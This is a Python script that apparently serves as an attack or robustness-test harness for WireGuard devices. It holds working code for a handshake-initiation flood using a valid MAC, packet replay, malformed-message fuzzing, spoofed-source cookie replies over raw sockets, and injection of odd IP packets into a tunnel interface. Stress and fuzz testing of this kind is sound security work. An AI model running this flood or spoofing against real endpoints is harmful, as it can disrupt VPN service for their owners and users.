"""What an attacker of a WireGuard device sends. Each command prints what it did when it is done.

  flood ADDRESS PORT KEY RATE SECONDS    initiations with a right first MAC, which needs nothing but the public key
  replay CAPTURE DEVICE                  sends each frame of a capture (pcap, Ethernet) once more, as it was
  noise ADDRESS PORT KEY                 invalid messages of every type and many sizes, alone, joined, and in fragments
  cookies FROM FROMPORT ADDRESS PORT N   cookie replies with a foreign source, for indices by chance and all small ones
  inner DEVICE FROM TO FROM6 TO6          odd IP packets into a tunnel's interface; prints them in hexadecimal digits
  watch DEVICE SECONDS                    prints "ready", then what comes out of an interface, in the same form
"""
import base64
import hashlib
import random
import socket
import struct
import sys
import time

command, words = sys.argv[1], sys.argv[2:]
UDP_SEGMENT = 103
chance = random.Random(4711)


def family(address):
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def initiation(key):
    """With a right first MAC and nothing else that is right."""
    body = b"\1\0\0\0" + chance.randbytes(112)
    mac_key = hashlib.blake2s(b"mac1----" + key).digest()
    return body + hashlib.blake2s(body, key=mac_key, digest_size=16).digest() + bytes(16)


def flood(address, port, key, rate, seconds):
    key, rate, joined = base64.b64decode(key), int(rate), 50
    pieces = [b"".join(initiation(key) for _ in range(joined)) for _ in range(64)]
    senders = []
    for _ in range(32):
        sender = socket.socket(family(address), socket.SOCK_DGRAM)
        sender.setsockopt(socket.IPPROTO_UDP, UDP_SEGMENT, 148)
        sender.connect((address, int(port)))
        senders.append(sender)
    print("ready", flush=True)
    start, sent, refused = time.monotonic(), 0, 0
    while (passed := time.monotonic() - start) < float(seconds):
        if sent > rate * passed:
            time.sleep(0.001)
            continue
        try:
            senders[sent // joined % 32].send(pieces[sent // joined % 64])
        except ConnectionRefusedError:
            refused += 1
        sent += joined
    # Answers, which there may be few of.
    answers = 0
    for sender in senders:
        sender.setblocking(False)
        try:
            while sender.recv(2048):
                answers += 1
        except OSError:
            pass
    print(f"sent {sent} answers {answers}", flush=True)


def replay(capture, device):
    data = open(capture, "rb").read()
    order = "<" if struct.unpack("<I", data[:4])[0] in (0xA1B2C3D4, 0xA1B23C4D) else ">"
    port = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    port.bind((device, 0))
    place, count = 24, 0
    while place + 16 <= len(data):
        size = struct.unpack(order + "I", data[place + 8:place + 12])[0]
        frame = bytearray(data[place + 16:place + 16 + size])
        # A checksum that was left to the hardware is not there; over IPv4 there may be none.
        if frame[12:14] == b"\x08\0":
            frame[14 + 20 + 6:14 + 20 + 8] = b"\0\0"
        port.send(frame)
        place += 16 + size
        count += 1
    print(f"replayed {count}", flush=True)


def noise(address, port, key):
    key, target = base64.b64decode(key), (address, int(port))
    plain = socket.socket(family(address), socket.SOCK_DGRAM)
    sizes = [1, 3, 4, 15, 16, 31, 32, 63, 64, 65, 91, 92, 93, 147, 148, 149, 1280, 1472, 1473, 9000, 65507]
    messages = [b""]
    for size in sizes:
        messages.append(chance.randbytes(size))
        for kind in list(range(8)) + [0x01010101, 0x80000004]:
            messages.append((struct.pack("<I", kind) + chance.randbytes(size))[:size])
    good = initiation(key)
    # Right but for one thing: a byte of the MAC, a byte more, reserved bytes, cut in half.
    messages += [good[:-17] + bytes([good[-17] ^ 1]) + good[-16:], good + b"\0", good[:74]]
    messages += [good[:1] + b"\1" + good[2:]]
    for message in messages:
        plain.sendto(message, target)
    count = len(messages)
    joined = socket.socket(family(address), socket.SOCK_DGRAM)
    for segment in (1, 31, 32, 64, 92, 148, 1200):
        joined.setsockopt(socket.IPPROTO_UDP, UDP_SEGMENT, segment)
        number = min(64, 60000 // segment)
        for kind in range(6):
            piece = b"".join((struct.pack("<I", kind) + chance.randbytes(segment))[:segment] for _ in range(number))
            # The last one is shorter.
            joined.sendto(piece[:-(segment // 2)] if segment > 1 else piece, target)
            count += number
    # A message whose MAC is right is answered by nobody either: its sender is not known.
    plain.sendto(good, target)
    plain.settimeout(0.3)
    try:
        print(f"answered {plain.recv(2048).hex()}", flush=True)
    except socket.timeout:
        print(f"sent {count + 1}", flush=True)


def cookies(source, source_port, address, port, number):
    raw = socket.socket(family(address), socket.SOCK_RAW, socket.IPPROTO_UDP)
    raw.bind((source, 0))
    for count in range(int(number)):
        index = count if count < 256 else chance.getrandbits(32)
        message = struct.pack("<II", 3, index) + chance.randbytes(56)
        raw.sendto(struct.pack(">HHHH", int(source_port), int(port), 8 + len(message), 0) + message, (address, 0))
    print(f"sent {number}", flush=True)


def checksum(header):
    total = sum(struct.unpack(f">{len(header) // 2}H", header))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return 0xFFFF - total


def four(source, target, protocol, payload, options=b"", fragment=0):
    def header(check):
        return struct.pack(
            ">BBHHHBBH4s4s", 0x40 | 5 + len(options) // 4, 0, 20 + len(options) + len(payload), 7, fragment, 64,
            protocol, check, socket.inet_aton(source), socket.inet_aton(target)) + options
    return header(checksum(header(0))) + payload


def six(source, target, following, payload):
    return struct.pack(">IHBB", 6 << 28, len(payload), following, 64) + socket.inet_pton(
        socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, target) + payload


def inner(device, source, target, source6, target6):
    odd = []
    for protocol in (0, 1, 2, 6, 17, 41, 47, 50, 58, 59, 89, 132, 253, 255):
        for size in (0, 1, 7, 8, 100):
            odd.append(four(source, target, protocol, chance.randbytes(size)))
            odd.append(six(source6, target6, protocol, chance.randbytes(size)))
    odd.append(four(source, target, 253, b"options", options=b"\x44\x28\5\0" + bytes(36)))
    odd.append(four(source, target, 17, b"a fragment", fragment=0x2000))
    odd.append(four(source, target, 17, b"a later one", fragment=0x00FF))
    # Extension headers: hop by hop, destination, routing, fragment, one behind the other, and one that runs out.
    chain = b"\x3c\0" + b"\1\4" + bytes(4) + b"\x2b\0\1\4" + bytes(4) + b"\x2c\0\4\0" + bytes(4)
    odd.append(six(source6, target6, 0, chain + b"\x3a\0\0\1" + bytes(4) + b"\x3a\0echo"))
    odd.append(six(source6, target6, 60, b"\x3c\xff" + bytes(6)))
    odd.append(six(source6, target6, 44, b"\x11\0\0\1" + bytes(4) + bytes(8)))
    for packet in odd:
        kind = 0x0800 if packet[0] >> 4 == 4 else 0x86DD
        port = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM)
        port.sendto(packet, (device, kind))
        port.close()
        time.sleep(0.0005)
        print(packet.hex(), flush=True)


def watch(device, seconds):
    port = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
    port.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
    port.bind((device, 3))
    print("ready", flush=True)
    end = time.monotonic() + float(seconds)
    while (left := end - time.monotonic()) > 0:
        port.settimeout(left)
        try:
            packet, where = port.recvfrom(65536)
        except socket.timeout:
            break
        if where[2] == 0:
            print(packet.hex(), flush=True)


globals()[command](*words)
